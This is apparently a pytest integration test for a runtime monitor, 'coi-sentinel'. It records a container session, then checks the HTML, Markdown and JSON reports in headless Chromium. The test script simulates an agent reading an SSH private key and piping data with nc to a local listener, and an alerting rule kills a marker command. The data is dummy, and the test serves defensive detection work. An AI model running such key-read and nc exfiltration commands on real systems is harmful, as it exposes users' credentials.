"""The report of a real session: `coi-sentinel run` records an agent that writes files, reads an
SSH key, sends it to a listener and runs a command a rule kills; `run` prints the report's
path; headless Chromium opens the page and the test reads its DOM (alert rows, the process
tree, the action) and saves a screenshot.

Traffic goes only to a listener on the Incus bridge's own address (reachable from containers
in `open` mode).
"""

from __future__ import annotations

import json
import os
import re
import socket
import threading
from pathlib import Path

import pytest

from browser import dump_dom, parse, screenshot
from incus_support import BUSYBOX, stop_daemon
from support import require_bpf

pytestmark = [pytest.mark.incus, pytest.mark.bpf]

BRIDGE_IP = "10.123.45.1"
SENT = 20_000

KILL_RULE = """
- required_engine_version: 1

- rule: test_report_marker
  description: The marker command of the report test ran.
  severity: critical
  events: [exec]
  condition: >
    evt.errno = 0
    and proc.cmdline = "sleep 27.1828"
  output: >-
    Marker command ran (cmdline=%proc.cmdline container=%container.name)
  tags: [test]
  action: kill-process
  false_positives: >
    None; a test rule.
"""


@pytest.fixture
def own_daemon(env):
    """``env`` whose monitored runs use a daemon of this test's own (the first run starts it,
    as a user's first run does), stopped and its files removed at the end."""
    require_bpf()
    env.socket = Path(f"/run/coi-sentinel/test-viewer-{os.urandom(3).hex()}.sock")
    yield env
    stop_daemon(env.socket)             # and its state directory and log
    env.socket.unlink(missing_ok=True)


class Sink:
    """A TCP listener on the bridge address that reads and counts what it is sent."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        try:
            self.sock.bind((BRIDGE_IP, 0))
        except OSError as err:
            self.sock.close()
            pytest.skip(f"no listener on the Incus bridge address {BRIDGE_IP}: {err}")
        self.sock.listen(4)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(5)
                try:
                    while data := conn.recv(65536):
                        self.received += len(data)
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def sink():
    s = Sink()
    yield s
    s.close()


def test_report_of_a_recorded_session_in_chromium(own_daemon, sink, tmp_path):
    env = own_daemon
    (env.home / ".config/coi-sentinel/test-rules.yaml").write_text(KILL_RULE)
    # every alert is recorded; only the marker rule acts (kill-process, its own action)
    (env.home / ".config/coi-sentinel/config.toml").write_text(
        f'image = "{BUSYBOX}"\nmonitoring = true\nnetwork = "open"\nrules = ["test-rules.yaml"]\n'
        '[response]\nhigh = "alert"\ncritical = "alert"\n')
    script = (
        "mkdir -p /workspace/src /workspace/build\n"
        "echo 'int main(void){return 0;}' > /workspace/src/main.c\n"
        "for i in 1 2 3; do echo line $i >> /workspace/build/out.log; done\n"
        "mkdir -p ~/.ssh && echo KEY > ~/.ssh/id_rsa && cat ~/.ssh/id_rsa > /dev/null\n"
        f"head -c {SENT} /dev/zero | nc {BRIDGE_IP} {sink.port}\n"
        "sh -c 'sleep 27.1828'\n"
        "echo after-kill\n")
    r = env.run("run", "--", "sh", "-c", script, timeout=180)
    assert r.code == 3, r.err                       # a process of the agent was killed
    assert r.out == "after-kill\n"
    m = re.search(r"^coi-sentinel: report: (/\S+\.html)$", r.err, re.M)
    assert m, r.err
    page = Path(m.group(1))
    assert page.is_file() and page.is_relative_to(env.home / ".local/state/coi-sentinel/reports")
    assert sink.received == SENT

    dom = parse(dump_dom(page, tmp_path / "chromium"))
    assert env.containers() == []

    # the summary: agent, workspace, network, verdict, an intact chain
    [verdict] = [e for e in dom.select("span", "verdict") if e.attrs.get("id") == "verdict"]
    assert "kill-process" in verdict.text and "critical" in verdict.text
    [chain] = [e for e in dom.select("span") if e.attrs.get("id") == "chain"]
    assert chain.text.startswith("intact: ") and "good" in chain.classes
    summary = dom.select("section", id="summary")[0].text
    assert "shell" in summary and str(env.ws) in summary and "open" in summary

    # alert rows: each rule that fired, with its severity
    rows = {e.attrs["data-rule"]: e for e in dom.select("tr", "alert")}
    assert {"test_report_marker", "ssh_private_key_read",
            "exfil_secret_read_then_connect"} <= set(rows), sorted(rows)
    assert rows["test_report_marker"].attrs["data-severity"] == "critical"
    assert rows["ssh_private_key_read"].attrs["data-severity"] == "high"
    marker_pid = rows["test_report_marker"].attrs["data-pid"]

    # the process tree: the killed marker process is an alerting node under the agent's shell,
    # with its command line and the action; cat and nc are marked too
    [node] = dom.select("li", "proc", "alerting", data_pid=marker_pid)
    assert "sleep 27.1828" in node.text and "kill-process" in node.text
    assert "signal 9" in node.text
    parent = node.parent
    while parent is not None and parent.tag != "li":
        parent = parent.parent
    assert parent is not None and "proc" in parent.classes and "sh -c" in parent.text
    alerting = {e.attrs["data-pid"]: e.text for e in dom.select("li", "proc", "alerting")}
    assert any("cat /home/code/.ssh/id_rsa" in t for t in alerting.values()), alerting
    assert any(f"nc {BRIDGE_IP} {sink.port}" in t for t in alerting.values()), alerting

    # the action, with its latency
    [action] = dom.select("tr", "action", data_action="kill-process")
    assert "test_report_marker" in action.text and "ok" in action.text
    [latency] = action.select("td", "latency")
    assert 0 < float(latency.text) < 1000

    # where it connected and what it sent, what it wrote, which secret it read
    [dest] = dom.select("tr", "dest", data_dest=f"{BRIDGE_IP}:{sink.port}")
    [sent] = [td for td in dest.select("td") if "data-bytes" in td.attrs]
    assert int(sent.attrs["data-bytes"]) == SENT
    dirs = {e.attrs["data-dir"] for e in dom.select("details", "dir")}
    assert {"/workspace/src", "/workspace/build"} <= dirs
    [secret] = [e for e in dom.select("tr", "secret") if "/home/code/.ssh/id_rsa" in e.text]
    assert "cat" in secret.text

    # the page's script: #severity=critical hides the other rows (and only them)
    filtered = parse(dump_dom(page, tmp_path / "chromium", "#severity=critical"))
    hidden = {e.attrs["data-rule"] for e in filtered.select("tr", "alert", "hidden")}
    assert hidden == {r for r, e in rows.items() if e.attrs["data-severity"] != "critical"} != set()
    assert not dom.select("tr", "alert", "hidden")

    png = screenshot(page, tmp_path / "report.png", tmp_path / "chromium")
    assert png.stat().st_size > 50_000

    # the same log as text and as data
    name = page.stem
    md = env.run("report", name, "--format", "md")
    assert md.code == 0 and "## Alerts (" in md.out and "test_report_marker" in md.out, md.err
    data = json.loads(env.run("report", name, "--json").out)
    assert data["summary"]["verdict_level"] == "stopped"
    # made later from the log alone: the daemon's header says the agent and the network
    assert (data["summary"]["agent"], data["summary"]["network"]) == ("shell", "open")
